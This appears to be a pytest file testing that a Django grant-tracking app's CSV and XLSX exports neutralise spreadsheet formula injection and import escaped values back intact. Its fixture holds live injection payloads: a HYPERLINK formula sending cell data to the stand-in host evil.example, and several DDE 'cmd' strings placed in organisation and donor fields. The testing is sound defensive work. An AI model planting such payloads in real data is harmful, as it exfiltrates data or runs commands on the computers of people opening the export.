"""The admin's Export (CSV and XLSX, every resource) never writes a cell a spreadsheet would run:
text an applicant typed as `=HYPERLINK(...)` comes out as inert text, and imports back unchanged."""
import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from disbursements.models import PaymentState
from disbursements.resources import GrantResource, PaymentResource
from fundops.data_exchange import run_import
from fundops.data_exchange.core import CONTRIBUTION_COLUMNS, DONOR_COLUMNS, ORGANIZATION_COLUMNS
from fundops.data_exchange.history import GRANT_COLUMNS, PAYMENT_COLUMNS
from fundops.models import Donor, Organization
from fundops.resources import ContributionResource, DonorResource, OrganizationResource
from tests import factories

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # fundops.resources.EXPORT_FORMATS
EXPORTS = {
    # admin URL, the resource's field prefix on the export form, its columns
    "organization": ("/admin/fundops/organization/export/", "organizationresource", ORGANIZATION_COLUMNS),
    "donor": ("/admin/fundops/donor/export/", "donorresource", DONOR_COLUMNS),
    "contribution": ("/admin/fundops/contribution/export/", "contributionresource", CONTRIBUTION_COLUMNS),
    "grant": ("/admin/disbursements/grant/export/", "grantresource", GRANT_COLUMNS),
    "payment": ("/admin/disbursements/payment/export/", "paymentresource", PAYMENT_COLUMNS),
}


@pytest.fixture
def hostile_world():
    """Every free-text field an applicant or a careless colleague can fill, set to a formula."""
    organization = factories.OrganizationFactory(
        org_id="KE-RCO-1", name=PAYLOAD, city="+cmd|' /C calc'!A0", registration_number="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    donor = factories.DonorFactory(slug="open-justice", name="-2+3+cmd|' /C calc'!A0")
    fund = factories.FundFactory(slug="covid")
    factories.ContributionFactory(fund=fund, donor=donor, amount=Decimal("50000"))
    application = factories.ApplicationFactory(
        organization=organization, fund=fund, title="\t=1+1", state="approved",
        submitted_at=datetime.datetime(2020, 4, 20, 12, tzinfo=datetime.timezone.utc),
    )
    grant = factories.GrantFactory(application=application, reference="C-1", amount=Decimal("10000"))
    tranche = factories.TrancheFactory(grant=grant)
    factories.PaymentFactory(
        tranche=tranche, amount=Decimal("4000"), state=PaymentState.PAID, paid_on=datetime.date(2020, 5, 1),
        fx_rate=Decimal("1"), base_amount=Decimal("4000"), reference="=1+1",
    )
    return organization


def export(admin_client, kind, fmt):
    url, prefix, columns = EXPORTS[kind]
    response = admin_client.post(url, {"format": fmt, "resource": "0", **{f"{prefix}_{name}": "on" for name in columns}})
    assert response.status_code == 200, response.content[:500]
    return response.content


def is_number(text):
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize("kind", list(EXPORTS))
def test_csv_exports_write_no_cell_a_spreadsheet_would_run(admin_client, hostile_world, kind):
    rows = list(csv.reader(io.StringIO(export(admin_client, kind, CSV_FORMAT).decode("utf-8-sig"), newline="")))
    assert len(rows) == 2, rows  # the header and the hostile row
    dangerous = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
    assert dangerous == []


@pytest.mark.parametrize("kind", list(EXPORTS))
def test_xlsx_exports_hold_no_formula_cell(admin_client, hostile_world, kind):
    sheet = load_workbook(io.BytesIO(export(admin_client, kind, XLSX_FORMAT))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert sheet.max_row == 2
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)] == []


def test_the_hostile_text_is_kept_visible_behind_one_apostrophe(admin_client, hostile_world):
    rows = list(csv.DictReader(io.StringIO(export(admin_client, "organization", CSV_FORMAT).decode("utf-8-sig"))))
    assert rows[0]["name"] == "'" + PAYLOAD
    assert rows[0]["org_id"] == "KE-RCO-1"  # harmless text is not touched


def test_amounts_stay_plain_numbers(admin_client, hostile_world):
    rows = list(csv.DictReader(io.StringIO(export(admin_client, "payment", CSV_FORMAT).decode("utf-8-sig"))))
    assert (rows[0]["amount"], rows[0]["fx_rate"]) == ("4000", "1")


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT])
def test_escaped_exports_import_back_to_the_same_text(admin_client, hostile_world, fmt):
    name = "xlsx" if fmt == XLSX_FORMAT else "csv"
    organisations, donors = export(admin_client, "organization", fmt), export(admin_client, "donor", fmt)
    Organization.objects.filter(pk=hostile_world.pk).update(name="changed", city="", registration_number="")
    Donor.objects.update(name="changed")
    assert run_import("organizations", organisations, filename=f"o.{name}").updated == 1
    assert run_import("donors", donors, filename=f"d.{name}").updated == 1
    organization = Organization.objects.get(pk=hostile_world.pk)
    assert organization.name == PAYLOAD
    assert organization.city == "+cmd|' /C calc'!A0"
    assert organization.registration_number == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert Donor.objects.get().name == "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("stored", ["'Quote org", "'=already quoted", "''+twice", "Plain org"])
def test_a_name_that_really_starts_with_an_apostrophe_round_trips(stored):
    factories.OrganizationFactory(org_id="KE-RCO-2", name=stored)
    exported = OrganizationResource().export()
    Organization.objects.update(name="changed")
    for data, filename in ((exported.csv.encode(), "o.csv"), (exported.xlsx, "o.xlsx")):
        run_import("organizations", data, filename=filename)
        assert Organization.objects.get().name == stored
        Organization.objects.update(name="changed")


def test_programmatic_exports_are_escaped_too(hostile_world):
    """Not only the admin's buttons: any caller of a resource's export() gets inert cells."""
    for resource in (OrganizationResource(), DonorResource(), ContributionResource(), GrantResource(), PaymentResource()):
        for row in resource.export():
            assert not any(isinstance(cell, str) and cell.startswith(FORMULA_STARTS) for cell in row), row
